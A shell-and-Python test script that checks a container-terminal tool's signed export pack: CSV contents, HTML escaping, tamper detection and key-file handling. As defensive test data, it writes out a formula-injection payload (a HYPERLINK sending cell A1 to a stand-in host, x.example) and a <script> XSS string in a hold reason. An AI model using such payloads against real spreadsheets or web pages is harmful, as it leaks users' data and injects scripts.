#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
#
# t-pack.sh BOLLARD SRCDIR - bollard pack keygen|write|verify on a demo
# terminal.  The pack's CSV files have their headers and one row per box,
# open work instruction, visit, box on board and active hold (counted here
# from the state tables and from `bollard report`); the page escapes a hold
# reason written to break it, and the CSV keeps a spreadsheet from running
# it.  The pack verifies; each kind of tampering (a changed byte, a file
# added, a file deleted, the MANIFEST edited, another key) fails with exit
# status 1 naming the file.  Key files others can read are refused, and an
# existing output directory is never replaced.
set -u
bollard=${1:?usage: t-pack.sh BOLLARD SRCDIR}
command -v python3 >/dev/null || { echo "1..0 # SKIP python3 not installed"; exit 0; }
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT INT TERM
"$bollard" init --data "$tmp/d" --origin test/bollard >/dev/null || exit 1
"$bollard" demo-data --data "$tmp/d" --moves 200 --trucks 100 >/dev/null || exit 1

python3 - "$bollard" "$tmp" <<'PYEOF'
import csv, io, json, os, shutil, sqlite3, stat, subprocess, sys

bollard, tmp = sys.argv[1:3]
data = os.path.join(tmp, "d")
db = sqlite3.connect(os.path.join(data, "bollard.db"))
n = 0
failed = 0

def check(cond, what):
    global n, failed
    n += 1
    print(("ok %d - " if cond else "not ok %d - ") % n + what)
    if not cond:
        failed += 1
    return cond

def run(*args, stdin=None):
    p = subprocess.run([bollard] + list(args), capture_output=True, text=True, input=stdin)
    return p.returncode, p.stdout, p.stderr

# Open work: plan the rehandles that free a box under two others.
box = db.execute("""select s.container from yard_slot s where s.tier = 1 and s.length = 20 and
    (select max(tier) from yard_slot t where t.terminal = s.terminal and t.block = s.block and
     t.bay20 = s.bay20 and t.row = s.row) >= 3 order by s.container limit 1""").fetchone()[0]
rc, out, err = run("yard", "digout", "--data", data, "--commit", box)
check(rc == 0, "yard digout --commit plans open work (%s)" % err.strip())

# A hold whose reason tries HTML and a spreadsheet formula.
evil = '=HYPERLINK("http://x.example/?"&A1) <script>alert(1)</script> & \'q\', "z"'
target = db.execute("""select id from container where place = 'yard' and id not in
    (select container from hold where lifted_seq is null) order by id limit 1""").fetchone()[0]
cmd = json.dumps({"cmd": "hold.place", "id": target, "kind": "damage", "reason": evil,
                  "ref": "-1+1"})
rc, out, err = run("batch", "--data", data, "-", stdin=cmd + "\n")
check(rc == 0, "a damage hold with a hostile reason is placed (%s%s)" % (out.strip(), err.strip()))

key = os.path.join(tmp, "pack.key")
rc, pub, err = run("pack", "keygen", "--out", key, "--name", "replica-test")
pub = pub.strip()
check(rc == 0 and pub.startswith("replica-test+"), "pack keygen prints the public key")
check(stat.S_IMODE(os.stat(key).st_mode) == 0o600, "the key file is mode 0600")
rc, _, err = run("pack", "keygen", "--out", key, "--name", "replica-test")
check(rc == 1 and "exists" in err, "pack keygen never overwrites a key file")
rc, other, _ = run("pack", "keygen", "--out", os.path.join(tmp, "other.key"), "--name", "replica-test")
other = other.strip()

pack = os.path.join(tmp, "pack")
rc, out, err = run("pack", "write", "--data", data, "--out", pack, "--key", key)
check(rc == 0 and out.startswith("wrote "), "pack write (%s%s)" % (out.strip(), err.strip()))

def rows(name):
    with open(os.path.join(pack, name), newline="") as f:
        raw = f.read()
    return raw, list(csv.reader(io.StringIO(raw)))

files = sorted(os.listdir(pack))
visits = [r[0] for r in db.execute("""select v.id from visit v where v.phase <> 'departed' and
    exists (select 1 from container c where c.place = 'vessel' and c.visit = v.id) order by v.id""")]
want = sorted(["MANIFEST", "index.html", "inventory.csv", "work.csv", "visits.csv", "holds.csv"] +
              ["bayplan-%s.csv" % v for v in visits])
check(files == want, "the pack holds exactly its files: %s" % files)

raw, inv = rows("inventory.csv")
check(inv[0] == ["terminal", "block", "bay", "row", "tier", "container", "size_type", "line",
                 "category", "full_empty", "gross_kg", "pod", "setpoint_c", "dg_un", "holds",
                 "place"], "inventory.csv header")
check("\r\n" in raw and raw.count("\n") == raw.count("\r\n"), "inventory.csv has CRLF line ends")
terms = [r[0] for r in db.execute("select code from terminal order by code")]
per_block = {}
for r in inv[1:]:
    per_block[(r[0], r[1])] = per_block.get((r[0], r[1]), 0) + 1
ok = True
for t in terms:
    rc, out, _ = run("report", "--data", data, "--json", "inventory", t)
    rep = json.loads(out)
    for b in rep["blocks"]:
        if per_block.get((t, b["block"]), 0) != b["boxes"]:
            ok = False
            print("# block %s/%s: %d rows, report says %d" % (t, b["block"],
                  per_block.get((t, b["block"]), 0), b["boxes"]))
    elsewhere = sum(e["boxes"] for e in rep.get("elsewhere", []))
    if sum(1 for r in inv[1:] if r[0] == t and not r[1]) != elsewhere:
        ok = False
check(ok, "inventory.csv has one row per box of each block and of quay and trucks, as the report counts")
in_term = db.execute("select count(*) from container where place in ('yard','quay','truck')").fetchone()[0]
check(len(inv) - 1 == in_term, "inventory.csv rows = boxes in the terminals (%d)" % in_term)
order = [(r[0], r[1], int(r[2]), int(r[3]), int(r[4])) for r in inv[1:] if r[1]]
check(order == sorted(order), "inventory.csv is by block, then bay, row, tier")
held = {r[5]: r[14] for r in inv[1:]}
check(held.get(target) == "damage", "the inventory shows the box's active hold")
check(all(r[9] in ("F", "E") for r in inv[1:]), "every box is full or empty")

_, work = rows("work.csv")
check(work[0] == ["terminal", "id", "kind", "container", "from", "to", "equipment", "sequence",
                  "priority", "status", "visit", "planned_at"], "work.csv header")
open_wi = db.execute("""select count(*) from wi where status in ('planned', 'dispatched',
    'in_progress')""").fetchone()[0]
check(open_wi > 0 and len(work) - 1 == open_wi, "work.csv rows = open work instructions (%d)" % open_wi)

_, vis = rows("visits.csv")
check(vis[0] == ["terminal", "visit", "vessel", "imo", "phase", "berth", "eta", "etd", "line",
                 "voyage_in", "voyage_out", "on_board"], "visits.csv header")
nvis = db.execute("select count(*) from visit where phase <> 'departed'").fetchone()[0]
check(len(vis) - 1 == nvis, "visits.csv rows = visits not departed (%d)" % nvis)
ok = True
for v in visits:
    _, bp = rows("bayplan-%s.csv" % v)
    on = db.execute("select count(*) from container where place = 'vessel' and visit = ?", (v,)).fetchone()[0]
    ok = ok and bp[0][:3] == ["cell", "container", "size_type"] and len(bp) - 1 == on
    ok = ok and [r[0] for r in bp[1:]] == sorted(r[0] for r in bp[1:])
check(visits and ok, "each bay plan has one row per box on board, by cell")

raw, holds = rows("holds.csv")
check(holds[0] == ["terminal", "container", "hold", "placed_by", "placed_at", "reason", "ref",
                   "place"], "holds.csv header")
nh = db.execute("select count(*) from hold where lifted_seq is null").fetchone()[0]
check(len(holds) - 1 == nh, "holds.csv rows = active holds (%d)" % nh)
mine = [r for r in holds if r[1] == target]
check(mine and mine[0][5] == "'" + evil and mine[0][6] == "'-1+1",
      "a formula in a CSV text field gets a leading quote, and survives quoting whole")

html = open(os.path.join(pack, "index.html"), encoding="utf-8").read()
check("<script" not in html.lower() and "&lt;script&gt;alert(1)&lt;/script&gt;" in html and
      "&amp; &#39;q&#39;, &quot;z&quot;" in html, "the page escapes the hold reason")
check(not any(s in html.lower() for s in ("src=", "href=", "@import", "url(", "<link")),
      "the page loads nothing from elsewhere")
check(html.count("<section>") == html.count("</section>") and
      html.count("<section>") >= len(per_block) + len(visits),
      "the page has a section (a new printed page) per block and per bay plan")
check("bollard pack verify" in html and 'class="foot"' in html and "position:fixed" not in html
      and "position: fixed" in html, "every printed page carries the footer")

rc, out, err = run("pack", "verify", pack, "--key", pub)
check(rc == 0 and out.startswith("pack intact: origin test/bollard, position ") and
      "signed by replica-test" in out, "pack verify: intact (%s%s)" % (out.strip(), err.strip()))
pubfile = os.path.join(tmp, "replica.pub")
open(pubfile, "w").write(pub + "\n")
rc, out, _ = run("pack", "verify", "--key", pubfile, pack)
check(rc == 0, "pack verify takes the key from a file")

def tampered(what, change, name):
    copy = os.path.join(tmp, "t")
    shutil.rmtree(copy, ignore_errors=True)
    shutil.copytree(pack, copy)
    change(copy)
    rc, out, err = run("pack", "verify", copy, "--key", pub)
    check(rc == 1 and "first bad file: %s\n" % name in out and name in out.splitlines()[0],
          "pack verify: %s -> exit 1 naming %s (%s)" % (what, name, out.strip().replace("\n", "; ")))

def flip(path, at):
    b = bytearray(open(path, "rb").read())
    b[at] ^= 1
    open(path, "wb").write(bytes(b))

tampered("a CSV byte changed", lambda d: flip(os.path.join(d, "inventory.csv"), 200), "inventory.csv")
tampered("a file appended to", lambda d: open(os.path.join(d, "holds.csv"), "a").write("x\r\n"), "holds.csv")
tampered("a file added", lambda d: open(os.path.join(d, "extra.csv"), "w").write("a\r\n"), "extra.csv")
tampered("a file deleted", lambda d: os.remove(os.path.join(d, "work.csv")), "work.csv")
def edit_manifest(d):
    p = os.path.join(d, "MANIFEST")
    t = open(p).read().replace("seq ", "seq 1", 1)
    open(p, "w").write(t)
tampered("MANIFEST edited", edit_manifest, "MANIFEST")
tampered("MANIFEST deleted", lambda d: os.remove(os.path.join(d, "MANIFEST")), "MANIFEST")
rc, out, _ = run("pack", "verify", pack, "--key", other)
check(rc == 1 and "first bad file: MANIFEST" in out and "not signed by key" in out,
      "pack verify with another key -> exit 1 naming MANIFEST")

rc, _, err = run("pack", "verify", pack)
check(rc == 2, "pack verify without --key is a usage error")
rc, _, err = run("pack", "verify", os.path.join(tmp, "nothing"), "--key", pub)
check(rc == 1, "pack verify of a missing directory fails")
rc, _, err = run("pack", "write", "--data", data, "--out", pack, "--key", key)
check(rc == 1 and "exists" in err, "pack write refuses an existing directory")
check(sorted(os.listdir(tmp)) == sorted(["d", "pack", "pack.key", "other.key", "replica.pub", "t"]),
      "a refused pack write leaves nothing behind")
os.chmod(key, 0o640)
rc, _, err = run("pack", "write", "--data", data, "--out", os.path.join(tmp, "p2"), "--key", key)
check(rc == 1 and "others" in err and not os.path.exists(os.path.join(tmp, "p2")),
      "pack write refuses a key file the group can read")

print("1..%d" % n)
sys.exit(1 if failed else 0)
PYEOF
